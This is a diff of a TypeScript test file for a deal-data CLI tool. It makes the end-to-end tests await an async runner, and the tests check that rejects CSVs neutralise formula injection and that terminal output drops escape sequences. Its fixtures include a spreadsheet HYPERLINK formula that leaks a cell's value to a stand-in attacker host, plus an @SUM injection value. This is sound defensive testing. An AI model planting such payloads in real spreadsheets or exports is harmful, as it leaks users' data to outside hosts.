@@ -16,7 +16,7 @@ import { readTable } from '../../src/ingest/read-table.js';
 import type { FileReport } from '../../src/model.js';
 import { csvCell, neutralizeCell, renderRejectsCsv } from '../../src/report/rejects-csv.js';
 import { safeText } from '../../src/report/text.js';
-import { hasStackTrace, runCli, tempDir } from '../helpers/cli.js';
+import { hasStackTrace, runCliAsync, tempDir } from '../helpers/cli.js';
 
 const HOSTILE = {
   formula: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
@@ -95,13 +95,13 @@ describe('--rejects CSV: formula injection', () => {
     );
   });
 
-  it('end to end: validate --rejects writes the hostile row neutralised', () => {
+  it('end to end: validate --rejects writes the hostile row neutralised', async () => {
     const dir = tempDir({
       'deals.csv': `id,amount,stage,created,closed,name\nD1,100,Won,2025-01-01,2025-01-05,ok\nD2,"${HOSTILE.formula.replace(/"/g, '""')}",Won,2025-01-01,2025-01-05,"${HOSTILE.img}"\nD3,@SUM(A1),Won,2025-01-01,2025-01-05,"${HOSTILE.mdLink}"\n`,
     });
     try {
       const out = join(dir, 'rejects.csv');
-      const r = runCli(['validate', dir, '--rejects', out]);
+      const r = await runCliAsync(['validate', dir, '--rejects', out]);
       expect(r.code).toBe(0);
       const rows = parse(readFileSync(out, 'utf8')) as string[][];
       const cells = rows.flat();
@@ -168,8 +168,8 @@ describe('terminal output: escape sequences and control characters', () => {
       ['validate', [], 'PWNED'],
       ['audit', ['--by', 'owner', '--as-of', '2025-06-30'], 'PWNED'],
       ['metrics', ['--by', 'source', '--as-of', '2025-06-30'], 'click'],
-    ])('%s prints no escape sequence or control character from the data', (command, extra, visible) => {
-      const r = runCli([command, dir, ...(extra as string[])]);
+    ])('%s prints no escape sequence or control character from the data', async (command, extra, visible) => {
+      const r = await runCliAsync([command, dir, ...(extra as string[])]);
       expect(r.code).toBe(0);
       expect(r.stdout.length).toBeGreaterThan(100);
       for (const text of [r.stdout, r.stderr]) {
@@ -179,14 +179,14 @@ describe('terminal output: escape sequences and control characters', () => {
       expect(r.stdout).toContain(visible);
     });
 
-    it('an error message quoting a hostile header or config key prints no escape sequence', () => {
+    it('an error message quoting a hostile header or config key prints no escape sequence', async () => {
       const bad = tempDir({
         'deals.csv': `id,${HOSTILE.clear},stage\nD1,1,Won\n`,
         'revhealth.config.json': JSON.stringify({ targets: { quotas: { [HOSTILE.clear]: -5 } } }),
       });
       try {
         for (const args of [['validate', bad, '--config', join(dir, 'revhealth.config.json')], ['validate', bad]]) {
-          const r = runCli(args);
+          const r = await runCliAsync(args);
           expect(r.code).toBe(2);
           expect(hasStackTrace(r.stderr)).toBe(false);
           expect(r.stderr).not.toMatch(TERMINAL_CONTROL);
